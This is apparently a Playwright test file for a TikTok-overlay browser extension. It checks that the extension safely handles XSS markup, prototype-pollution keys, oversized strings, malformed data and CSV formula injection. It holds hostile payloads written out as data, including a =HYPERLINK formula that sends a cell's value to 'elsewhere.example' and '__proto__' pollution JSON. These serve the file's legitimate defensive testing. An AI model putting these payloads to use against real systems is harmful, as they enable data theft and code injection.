import { readFileSync } from 'node:fs';
import Papa from 'papaparse';
import { defaultSettings } from '../../src/settings/defaults';
import { creatorFor } from '../site/creators';
import { createSite } from '../site/site';
import { addressOf } from '../site/tile';
import { videosOf } from '../site/videos';
import { inContentScript } from './content-script';
import { expect, test } from './harness';
import {
  badges,
  card,
  escaped,
  handle,
  inJson,
  name,
  profile,
  ranIn,
  rewritten,
  wicked,
} from './hostile';

test('names, captions and data full of markup are shown as text, and nothing of it runs', async ({
  page,
  popup,
  browserWithExtension,
}) => {
  browserWithExtension.answers.current = rewritten((body) => {
    const [head = '', data = ''] = body.split('<script id="__UNIVERSAL_DATA');
    return [
      head
        .replaceAll(`>${name}<`, `>${escaped(wicked)}<`)
        .replaceAll(/ alt="[^"]*"/g, ` alt="${escaped(wicked)}"`),
      data.replaceAll(`"nickname":"${name}"`, `"nickname":"${inJson(wicked)}"`),
    ].join('<script id="__UNIVERSAL_DATA');
  });
  await page.goto(profile);
  await expect(card(page)).toHaveAttribute('data-state', 'ready');
  await expect(badges(page)).toHaveCount(16);
  const view = await popup();
  await expect(view.getByTestId('month')).toContainText('a month');
  await expect(view.getByText('window.ran=1', { exact: false }).first()).toBeVisible();
  await expect(view.locator('img[src=x], svg[onload]')).toHaveCount(0);
  expect(await ranIn(page)).toBe(false);
  expect(await ranIn(view)).toBe(false);
  expect(await view.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(360);
});

test('keys of prototypes in the data, in messages and in an imported file change no prototype', async ({
  page,
  popup,
  options,
  faults,
  browserWithExtension,
}) => {
  const evil = `"__proto__":{"polluted":1,"followerCount":"9"},"constructor":{"prototype":{"polluted":1}},"toString":1,`;
  browserWithExtension.answers.current = rewritten((body) =>
    body.replaceAll(
      /"(?:user|stats|statsV2|userInfo|webapp\.user-detail)":\{/g,
      (key) => key + evil,
    ),
  );
  await page.goto(profile);
  await expect(card(page)).toHaveAttribute('data-state', 'ready');
  const view = await popup();
  await expect(view.getByTestId('month')).toContainText('a month');
  const { id, worker } = browserWithExtension.extension!;
  const inTheirs = await inContentScript(page, id);
  // Of a shape that is taken, and of one that is refused.
  faults.expect(/refusing "save-overlay-state"/);
  const ways = ['{"cardOpen":true,', '{"cardOpen":7,'].map(
    (start) => `${start}"surfaces":{"__proto__":{"polluted":1},"card":true},${evil.slice(0, -1)}}`,
  );
  for (const request of ways) {
    const message = JSON.stringify(`{"type":"save-overlay-state","request":${request}}`);
    await inTheirs(`chrome.runtime.sendMessage(JSON.parse(${message})).then(Object.keys)`);
  }
  const memory = await options('memory');
  const stored = await worker.evaluate(
    (defaults) =>
      chrome.storage.local
        .get('settings')
        .then(({ settings }) => JSON.stringify(settings ?? defaults)),
    defaultSettings(),
  );
  await memory.locator('input[type=file]').setInputFiles({
    name: 'permille.json',
    mimeType: 'application/json',
    buffer: Buffer.from(
      `{${evil}"format":"permille","version":1,"exportedAt":"2026-11-01T12:00:00.000Z",` +
        `"settings":{${evil}${stored.slice(1)},"creators":[]}`,
    ),
  });
  await expect(memory.getByTestId('import-plan')).toBeVisible();
  const polluted = () => 'polluted' in {};
  expect(await view.evaluate(polluted)).toBe(false);
  expect(await memory.evaluate(polluted)).toBe(false);
  expect(await worker.evaluate(polluted)).toBe(false);
  expect(await inTheirs(`(${String(polluted)})()`)).toBe(false);
});

for (const called of ['__proto__', 'constructor', 'tostring']) {
  test(`a creator called ${called} is read, remembered and forgotten like any other`, async ({
    page,
    popup,
    options,
    browserWithExtension,
  }) => {
    const site = createSite({ now: new Date() });
    browserWithExtension.answers.current = (url) => {
      const answer = site.respond(url.replaceAll(called, handle));
      return { ...answer, body: answer.body.replaceAll(handle, called) };
    };
    await page.goto(`https://www.tiktok.com/@${called}`);
    await expect(card(page)).toHaveAttribute('data-state', 'ready');
    await expect(card(page)).toHaveAttribute('aria-label', new RegExp(`@${called} .*a month`));
    await expect(badges(page)).toHaveCount(16);
    const view = await popup();
    await expect(view.getByTestId('month')).toContainText('a month');
    const listed = await options('memory');
    await expect(listed.locator(`[data-handle="${called}"]`)).toContainText(name);
    await listed.getByRole('button', { name: `Forget @${called}` }).click();
    await expect(listed.getByText('0 creators are remembered.')).toBeVisible();
  });
}

test('texts of a megabyte neither stop the estimate nor fill the card', async ({
  page,
  browserWithExtension,
}) => {
  const long = 'a'.repeat(1_000_000);
  browserWithExtension.answers.current = rewritten((body) =>
    body
      .replaceAll(`>${name}<`, `>${long}<`)
      .replace(/ alt="[^"]*"/, ` alt="${long}"`)
      .replace(/(data-e2e="following-count"[^>]*>)[^<]*/, `$1${'9'.repeat(1_000_000)}`)
      .replace(`"nickname":"${name}"`, `"nickname":"${long}"`),
  );
  await page.goto(profile);
  await expect(card(page)).toHaveAttribute('data-state', 'ready');
  await expect(badges(page)).toHaveCount(16);
  const label = (await card(page).getAttribute('aria-label')) ?? '';
  expect(label.length).toBeLessThan(2_000);
});

test('formulas in names and topics are no formulas in the exported table', async ({
  page,
  popup,
  browserWithExtension,
}) => {
  const now = new Date();
  const site = createSite({ now });
  const formula = `=HYPERLINK("http://elsewhere.example/?"&A1,"open")`;
  const topics = [formula, '+1', '-1', '@SUM(1)', '\t=1', '\uff1d1'];
  const video = videosOf(creatorFor('micro'), now).find(({ kind }) => kind === 'video')!;
  browserWithExtension.answers.current = (url) => {
    const answer = site.respond(url);
    const body = answer.body
      .replaceAll(`"nickname":"${name}"`, `"nickname":"${inJson(formula)}"`)
      .replace('"diversificationLabels":[]', `"diversificationLabels":${JSON.stringify(topics)}`);
    return { ...answer, body };
  };
  await page.goto(addressOf(creatorFor('micro'), video));
  await expect(page.locator('[data-permille=pill]')).toHaveAttribute('aria-label', / views/);
  const view = await popup();
  await expect(view.getByText(formula).first()).toBeVisible();
  const coming = view.waitForEvent('download');
  await view.getByRole('button', { name: 'CSV', exact: true }).click();
  const text = readFileSync(await (await coming).path(), 'utf8').replace(/^\ufeff/, '');
  const { data } = Papa.parse<Record<string, string>>(text, { header: true });
  expect(data).toHaveLength(1);
  expect(data[0]?.topics).toBe(`'${topics.join('; ')}`);
  for (const cell of Object.values(data[0] ?? {})) expect(cell).not.toMatch(/^\s*[=+\-@\uff1d]/);
});

test('data that is broken, deep or of another kind leaves what is visible', async ({
  page,
  browserWithExtension,
}) => {
  const broken = [
    (data: string) => data.slice(0, data.length / 2),
    () => '['.repeat(100_000),
    () => 'null',
    () => '{"__DEFAULT_SCOPE__":{"webapp.user-detail":{"userInfo":{"user":[],"stats":"x"}}}}',
  ];
  for (const change of broken) {
    browserWithExtension.answers.current = rewritten((body) =>
      body.replace(
        /(<script id="__UNIVERSAL_DATA_FOR_REHYDRATION__"[^>]*>)([^<]*)/,
        (_, tag: string, data: string) => tag + change(data),
      ),
    );
    await page.goto(profile);
    await expect(card(page)).toHaveAttribute('data-state', 'ready');
    await expect(badges(page)).toHaveCount(16);
  }
});
